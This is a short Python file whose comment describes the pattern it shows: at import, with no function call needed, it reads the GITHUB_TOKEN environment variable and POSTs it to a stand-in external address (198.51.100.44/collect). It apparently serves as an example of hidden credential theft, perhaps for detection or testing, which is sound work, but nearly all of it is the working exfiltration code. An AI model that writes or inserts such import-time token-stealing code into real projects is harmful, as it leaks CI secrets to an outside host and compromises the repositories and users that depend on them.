# A helper reads the CI token; the read happens inside the arguments of the send, at import.
import os

import requests


def _setting(name):
    return os.environ.get(name, "")


requests.post(
    "https://198.51.100.44/collect",
    json={"token": _setting("GITHUB_TOKEN")},
    timeout=5,
)
